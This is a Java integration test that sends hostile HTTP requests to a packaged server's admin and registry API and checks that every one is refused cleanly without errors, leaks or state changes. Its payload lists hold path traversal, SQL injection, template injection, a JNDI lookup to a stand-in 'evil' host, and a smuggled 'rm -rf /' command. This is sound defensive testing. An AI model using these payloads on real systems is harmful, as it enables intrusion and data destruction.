package io.sluice.admin.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.sluice.embedded.FreePorts;
import io.sluice.embedded.ServerProcess;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * Hostile input against the packaged server: every operation of its OpenAPI document (the admin API and the
 * registry) called without credentials, with a forged token, with malformed and huge bodies, wrong types,
 * unknown fields, and injection and traversal attempts in names and filters. No answer may be a 5xx or show a
 * stack trace or a secret, nothing stored may change, and the server must still serve normally afterwards; its
 * log must not hold a secret either.
 */
class HostileInputIT {
    private static final String ADMIN_PASSWORD = "Hostile-Admin-Password-1";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
    /**
     * For bodies over the limit: HTTP/1.1 with {@code Expect: 100-continue}, so that the client waits for the
     * server's verdict before it sends the body. Without it, the server's answer races the upload and the client may
     * see the connection closed under it instead of the 413; the JDK client's h2c upgrade (HTTP/2 over plain HTTP)
     * does not combine with {@code Expect}.
     */
    private static final HttpClient OVERSIZED_HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();
    /** {@code quarkus.http.limits.max-body-size} of the server's application.properties. */
    private static final int BODY_LIMIT = 4 * 1024 * 1024;
    /** A Java stack frame or an exception class name in a body: what a client must never see. */
    private static final Pattern TRACE = Pattern.compile("\\tat |\\bat [a-z]+\\.[a-zA-Z0-9_.$]+\\([A-Za-z0-9_]+\\.java:\\d+\\)|[a-z]\\.[A-Za-z]+Exception\\b|java\\.lang\\.");
    private static final List<String> NAMES = List.of("..%2F..%2Fetc%2Fpasswd", "x'%20OR%20'1'%3D'1", "%7B%7B7*7%7D%7D",
            "%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", "a".repeat(3000), "%00", "%E2%80%AE");
    private static final List<String> BODIES = List.of(
            "{", "not json", "[]", "null", "42", "{\"name\": 123, \"type\": [], \"config\": \"x\", \"sinks\": {}, \"tables\": 7}",
            "{\"bogus\": true, \"__proto__\": {\"admin\": true}}",
            "{\"name\": \"x'; DROP TABLE sink;--\", \"type\": \"redis\", \"config\": {\"redis.uri\": \"redis://127.0.0.1:1\"}}",
            "{\"name\": \"../../etc/passwd\", \"source\": \"{{7*7}}\", \"sinks\": [\"${jndi:ldap://evil/a}\"]}",
            "{\"pipeline\": \"p\", \"where\": \"1=1; DROP TABLE items; --\", \"tables\": [\"a.b' OR 1=1 --\"]}",
            "{\"schema\": \"{\\\"type\\\": \\\"record\\\", \\\"name\\\": \\\"x\\\", \\\"fields\\\": 5}\"}",
            "{\"password\": 5, \"role\": \"superuser\", \"name\": \"\"}");

    private record Call(String method, String path, String body, String auth) {
        boolean oversized() {
            return body != null && body.length() > BODY_LIMIT;
        }
    }

    @Test
    void shouldRefuseEveryHostileRequestCleanlyAndChangeNothing() throws Exception {
        Path dir = Files.createTempDirectory("sluice-hostile-");
        byte[] key = new byte[32];
        new SecureRandom().nextBytes(key);
        String encryptionKey = Base64.getEncoder().encodeToString(key);
        Path log = Path.of("target", "hostile-input.log");
        Files.deleteIfExists(log);
        try (ServerProcess server = new ServerProcess(ServerProcess.packagedJar(), FreePorts.next(), Map.of("sluice.data-dir", dir.toString(),
                "sluice.encryption-key", encryptionKey, "sluice.admin.initial-password", ADMIN_PASSWORD, "sluice.secure-cookies", "false"), log)) {
            server.start();
            String admin = "Basic " + Base64.getEncoder().encodeToString(("admin:" + ADMIN_PASSWORD).getBytes(StandardCharsets.UTF_8));
            Map<String, String> before = state(server, admin);
            JsonNode openapi = JSON.readTree(send(server, new Call("GET", "/q/openapi?format=json", null, admin)).body());

            List<Call> calls = new ArrayList<>();
            for (Iterator<Map.Entry<String, JsonNode>> paths = openapi.path("paths").fields(); paths.hasNext(); ) {
                Map.Entry<String, JsonNode> p = paths.next();
                for (Iterator<String> methods = p.getValue().fieldNames(); methods.hasNext(); ) {
                    String method = methods.next().toUpperCase(Locale.ROOT);
                    if (!List.of("GET", "POST", "PUT", "DELETE", "PATCH").contains(method)) {
                        continue;
                    }
                    String path = p.getKey();
                    boolean templated = path.contains("{");
                    // Parameters some routes constrain get a value they take, so that the call reaches the endpoint.
                    String plain = path.replace("{action}", "pause").replace("{page}", "sources").replaceAll("\\{[^}]+}", "1");
                    calls.add(new Call(method, plain, null, "")); // anonymous
                    calls.add(new Call(method, plain, null, "Bearer slc_forged_" + "x".repeat(40))); // forged token
                    calls.add(new Call(method, plain, null, "Basic " + Base64.getEncoder().encodeToString("admin:wrong".getBytes()))); // wrong password
                    if (templated) {
                        for (String name : NAMES) {
                            calls.add(new Call(method, path.replaceAll("\\{[^}]+}", name), method.equals("GET") || method.equals("DELETE") ? null
                                    : BODIES.get(calls.size() % BODIES.size()), admin));
                        }
                    }
                    if (method.equals("POST") || method.equals("PUT") || method.equals("PATCH")) {
                        for (String body : BODIES) {
                            calls.add(new Call(method, plain, body, admin));
                        }
                        calls.add(new Call(method, plain, "{\"name\": \"" + "x".repeat(BODY_LIMIT + 1024 * 1024) + "\"}", admin)); // over the body limit
                    }
                }
            }
            // A filter and table names built to break out of SQL, and registry subjects built to escape their path.
            calls.add(new Call("GET", "/api/v1/sources/" + URLEncoder.encode("a;rm -rf /", StandardCharsets.UTF_8) + "/status", null, admin));
            calls.add(new Call("POST", "/registry/subjects/..%2F..%2Fconfig/versions", "{\"schema\": \"\\\"string\\\"\"}", admin));
            calls.add(new Call("GET", "/registry/schemas/ids/-1", null, admin));
            calls.add(new Call("GET", "/registry/schemas/ids/99999999999999999999", null, admin));

            List<String> problems = new ArrayList<>();
            for (Call c : calls) {
                Answer r = send(server, c);
                String what = c.method() + " " + abbreviate(c.path()) + (c.body() == null ? "" : " body " + abbreviate(c.body()))
                        + (c.auth().isEmpty() ? " anonymous" : c.auth().startsWith("Bearer") ? " forged token" : c.auth().equals(admin) ? "" : " wrong password");
                if (r.status() >= 500) {
                    problems.add(what + " -> " + r.status() + " " + abbreviate(r.body()));
                }
                if (TRACE.matcher(r.body()).find()) {
                    problems.add(what + " -> a stack trace or exception name: " + abbreviate(r.body()));
                }
                if (r.body().contains(ADMIN_PASSWORD) || r.body().contains(encryptionKey)) {
                    problems.add(what + " -> a secret in the answer");
                }
                if (!c.auth().equals(admin) && !isPublic(c.path()) && !refused(r)) {
                    problems.add(what + " -> " + r.status() + " instead of a refusal (401, or a redirect to the login page)");
                }
                // Quarkus refuses a Content-Length over quarkus.http.limits.max-body-size in its HTTP layer, before
                // authentication, resources and error mappers: a bare 413 (no body, "Connection: close"). The API's
                // error shape cannot be given there.
                if (c.oversized() && (r.status() != 413 || !r.body().isEmpty())) {
                    problems.add(what + " -> " + r.status() + " " + abbreviate(r.body()) + " instead of a bare 413 (over the body limit)");
                }
            }
            System.out.println("HostileInputIT: " + calls.size() + " hostile calls, " + problems.size() + " problems");
            assertThat(calls).hasSizeGreaterThanOrEqualTo(200);
            assertThat(problems).as(calls.size() + " hostile calls").isEmpty();
            assertThat(state(server, admin)).as("stored state after the hostile calls").isEqualTo(before);
            assertThat(send(server, new Call("GET", "/q/health/ready", null, "")).status()).isEqualTo(200);
            assertThat(send(server, new Call("GET", "/api/v1/sources", null, admin)).status()).isEqualTo(200);
        }
        String logged = Files.readString(log);
        assertThat(logged).as("the server's log").doesNotContain(ADMIN_PASSWORD).doesNotContain(encryptionKey);
    }

    /** Paths anyone may call: health, signing in and out, static assets (application.properties, LoginResource). */
    private static boolean isPublic(String path) {
        return path.startsWith("/q/health") || path.startsWith("/login") || path.equals("/logout") || path.startsWith("/static/")
                || path.equals("/favicon.ico");
    }

    private static boolean refused(Answer r) {
        return r.status() == 401 || (r.status() / 100 == 3 && r.location().contains("/login"));
    }

    /** What the server stores, read through its API. */
    private static Map<String, String> state(ServerProcess server, String admin) throws Exception {
        Map<String, String> out = new LinkedHashMap<>();
        for (String path : List.of("/api/v1/sources", "/api/v1/sinks", "/api/v1/pipelines", "/api/v1/users", "/api/v1/backfills",
                "/api/v1/schemas/proposals", "/registry/subjects", "/registry/config", "/api/v1/me/tokens")) {
            Answer r = send(server, new Call("GET", path, null, admin));
            assertThat(r.status()).as(path).isEqualTo(200);
            out.put(path, r.body());
        }
        return out;
    }

    /** What the server answered: its status, body and {@code Location} header (empty when none). */
    private record Answer(int status, String body, String location) {
    }

    private static Answer send(ServerProcess server, Call c) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(server.url() + c.path())).timeout(Duration.ofSeconds(30))
                .header("Content-Type", "application/json").expectContinue(c.oversized())
                .method(c.method(), c.body() == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(c.body()));
        if (!c.auth().isEmpty()) {
            b.header("Authorization", c.auth());
        }
        HttpResponse<String> r = (c.oversized() ? OVERSIZED_HTTP : HTTP).send(b.build(), HttpResponse.BodyHandlers.ofString());
        return new Answer(r.statusCode(), r.body(), r.headers().firstValue("Location").orElse(""));
    }

    private static String abbreviate(String s) {
        return s.length() > 160 ? s.substring(0, 160) + "...(" + s.length() + " chars)" : s;
    }
}
